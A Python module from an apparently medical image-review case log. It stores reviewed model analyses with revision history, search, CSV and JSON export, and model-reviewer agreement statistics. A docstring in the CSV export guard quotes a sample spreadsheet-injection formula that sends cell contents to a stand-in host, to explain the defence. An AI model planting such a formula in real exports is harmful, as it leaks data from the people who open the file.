"""Cases: log, correct, search, export and agreement of reviewed analyses."""
from __future__ import annotations

import csv
import dataclasses
import json
from pathlib import Path
from typing import Any

import sqlite_utils

from .records import (CSV_FORMULA_STARTS, LIST_COLUMNS, MAX_LABEL_CHARS, CaseRecord, Review, StoreError,
                      _file_name, _storable, reviewer_label, utc_now)


class CasesMixin:
    """The case log's cases (and their append-only revisions)."""

    # -- writes
    def log_case(self, rec: CaseRecord) -> int:
        """Insert a new case with its first revision; returns the case id."""
        row, first = self._case_rows(rec)
        with self._write() as db:
            return self._insert_case(db, row, first)

    def _case_rows(self, rec: CaseRecord) -> tuple[dict, dict]:
        """The validated ``cases`` row and first ``revisions`` row of a record (StoreError if invalid)."""
        review = rec.review.validated()
        an = rec.analysis
        if not an.image_sha256 or not an.model_id or not an.predicted_label:
            raise StoreError("A case needs an analysed image (hash, model id and prediction).")
        patient_id = _storable(" ".join(str(rec.patient_id or "").split()), "The patient identifier")
        for text, what in ((an.predicted_label, "The predicted label"), (an.prompt_set_json, "The prompt set")):
            _storable(text, what)
        if len(patient_id) > MAX_LABEL_CHARS:
            raise StoreError("Patient identifier is too long.")
        now = utc_now()
        row = {
            **dataclasses.asdict(an), "created_at": now, "updated_at": now, **self._review_columns(review),
            "probabilities": json.dumps(an.probabilities, sort_keys=True), "n_revisions": 1,
            "original_filename": _file_name(an.original_filename) if rec.store_identifiers else None,
            "patient_id": (patient_id or None) if rec.store_identifiers else None,
        }
        return row, {"revision": 1, "created_at": now, **self._review_columns(review)}

    @staticmethod
    def _insert_case(db: sqlite_utils.Database, row: dict, first: dict) -> int:
        case_id = db["cases"].insert(row).last_pk
        db["revisions"].insert({"case_id": case_id, **first})
        return int(case_id)

    def add_revision(self, case_id: int, review: Review) -> int:
        """Append a review to a case's history; returns the new revision number."""
        review = review.validated()
        try:
            case_id = int(case_id)
        except (TypeError, ValueError):
            raise StoreError("Open a case (enter its id) first.") from None
        now = utc_now()
        with self._write() as db:
            if not db["cases"].count_where("id = ?", [case_id]):
                raise StoreError(f"No case with id {case_id}.")
            last = list(db.query("select coalesce(max(revision), 0) as r from revisions where case_id = ?",
                                 [case_id]))[0]["r"]
            revision = int(last) + 1
            db["revisions"].insert({"case_id": case_id, "revision": revision, "created_at": now,
                                    **self._review_columns(review)})
            db["cases"].update(case_id, {"updated_at": now, "n_revisions": revision, **self._review_columns(review)})
        return revision

    @staticmethod
    def _review_columns(review: Review) -> dict:
        return {"reviewer": review.reviewer, "verdict": review.verdict, "confidence": review.confidence,
                "corrected_labels": json.dumps(list(review.corrected_labels)), "notes": review.notes}

    # -- reads
    def count(self) -> int:
        with self._connect() as db:
            return db["cases"].count

    def get_case(self, case_id: int) -> dict | None:
        with self._connect() as db:
            rows = list(db["cases"].rows_where("id = ?", [int(case_id)]))
            if not rows:
                return None
            case = rows[0]
            case["history"] = list(db["revisions"].rows_where("case_id = ?", [int(case_id)], order_by="revision"))
            return case

    def history(self, case_id: int) -> list[dict]:
        with self._connect() as db:
            return list(db["revisions"].rows_where("case_id = ?", [int(case_id)], order_by="revision"))

    def search(self, *, reviewer: str | None = None, label: str | None = None, verdict: str | None = None,
               date_from: str | None = None, date_to: str | None = None, text: str | None = None,
               limit: int | None = 1000) -> list[dict]:
        """Cases, newest first. ``label`` matches the predicted label or any corrected label.

        Dates are ISO strings (``YYYY-MM-DD`` or full timestamps, UTC); ``date_to`` is inclusive of that day.
        ``text`` searches notes, reviewer and labels (case-insensitive substring).
        """
        where, args = [], []
        if reviewer:
            where.append("lower(reviewer) = lower(?)")
            args.append(reviewer.strip())
        if verdict:
            where.append("verdict = ?")
            args.append(verdict.strip().lower())
        if label:
            where.append("(predicted_label = ? or exists (select 1 from json_each(cases.corrected_labels) "
                         "where json_each.value = ?))")
            args += [label, label]
        if date_from:
            where.append("created_at >= ?")
            args.append(str(date_from).strip())
        if date_to:
            d = str(date_to).strip()
            if len(d) == 10:  # a bare date: include the whole day
                d += "T23:59:59.999+00:00"
            where.append("created_at <= ?")
            args.append(d)
        if text:
            where.append("(lower(notes) like ? or lower(reviewer) like ? or lower(corrected_labels) like ? "
                         "or lower(predicted_label) like ?)")
            args += [f"%{text.strip().lower()}%"] * 4
        with self._connect() as db:
            return list(db["cases"].rows_where(
                " and ".join(where) or None, args, order_by="id desc", select=", ".join(LIST_COLUMNS),
                limit=limit))

    def distinct(self, column: str) -> list[str]:
        if column not in ("reviewer", "predicted_label", "verdict", "model_id"):
            raise StoreError(f"Unknown column {column!r}.")
        with self._connect() as db:
            return [r[column] for r in db.query(
                f"select distinct {column} from cases where {column} is not null order by {column}")]

    # -- export and agreement
    @staticmethod
    def csv_safe(value: Any) -> Any:
        """A text cell a spreadsheet would run as a formula (=, +, -, @, tab, CR first) is prefixed with '.

        Reviewer notes, names and labels are typed by users; opened in Excel or LibreOffice, a note such as
        ``=HYPERLINK("http://evil/?"&A1, "click")`` would otherwise run (OWASP "CSV injection").
        """
        if isinstance(value, str) and value[:1] in CSV_FORMULA_STARTS:
            return "'" + value
        return value

    def export_csv(self, path: str | Path, rows: list[dict] | None = None) -> Path:
        rows = self.search(limit=None) if rows is None else rows
        path = Path(path)
        with path.open("w", newline="", encoding="utf-8") as fh:
            w = csv.DictWriter(fh, fieldnames=LIST_COLUMNS, extrasaction="ignore")
            w.writeheader()
            for r in rows:
                w.writerow({k: self.csv_safe(r.get(k)) for k in LIST_COLUMNS})
        return path

    def export_json(self, path: str | Path, rows: list[dict] | None = None, with_history: bool = True) -> Path:
        rows = self.search(limit=None) if rows is None else rows
        out = []
        for r in rows:
            item = {k: r.get(k) for k in LIST_COLUMNS}
            for k in ("probabilities", "corrected_labels"):
                try:
                    item[k] = json.loads(item[k]) if item[k] else item[k]
                except (TypeError, ValueError):
                    pass
            if with_history:
                item["history"] = self.history(r["id"])
            out.append(item)
        path = Path(path)
        path.write_text(json.dumps({"schema_version": self.schema_version, "exported_at": utc_now(),
                                    "cases": out}, indent=2), encoding="utf-8")
        return path

    reviewer_label = staticmethod(reviewer_label)

    def agreement(self, rows: list[dict] | None = None) -> dict[str, Any]:
        """Model-vs-reviewer agreement over gradable, labelled cases.

        Returns n (pairs counted), n_cases, n_ungradable, agreement_rate (None if no pairs),
        labels (sorted) and matrix (rows = reviewer label, columns = model label).
        """
        rows = self.search(limit=None) if rows is None else rows
        pairs = []
        for r in rows:
            lab = self.reviewer_label(r)
            if lab is not None and r.get("predicted_label"):
                pairs.append((lab, r["predicted_label"]))
        from sklearn.metrics import accuracy_score, confusion_matrix

        labels = sorted({a for a, _ in pairs} | {b for _, b in pairs})
        reviewer, model = [a for a, _ in pairs], [b for _, b in pairs]
        return {
            "n": len(pairs), "n_cases": len(rows),
            "n_ungradable": sum(1 for r in rows if r.get("verdict") == "ungradable"),
            "agreement_rate": float(accuracy_score(reviewer, model)) if pairs else None,
            "labels": labels,
            "matrix": confusion_matrix(reviewer, model, labels=labels).tolist() if pairs else [],
        }

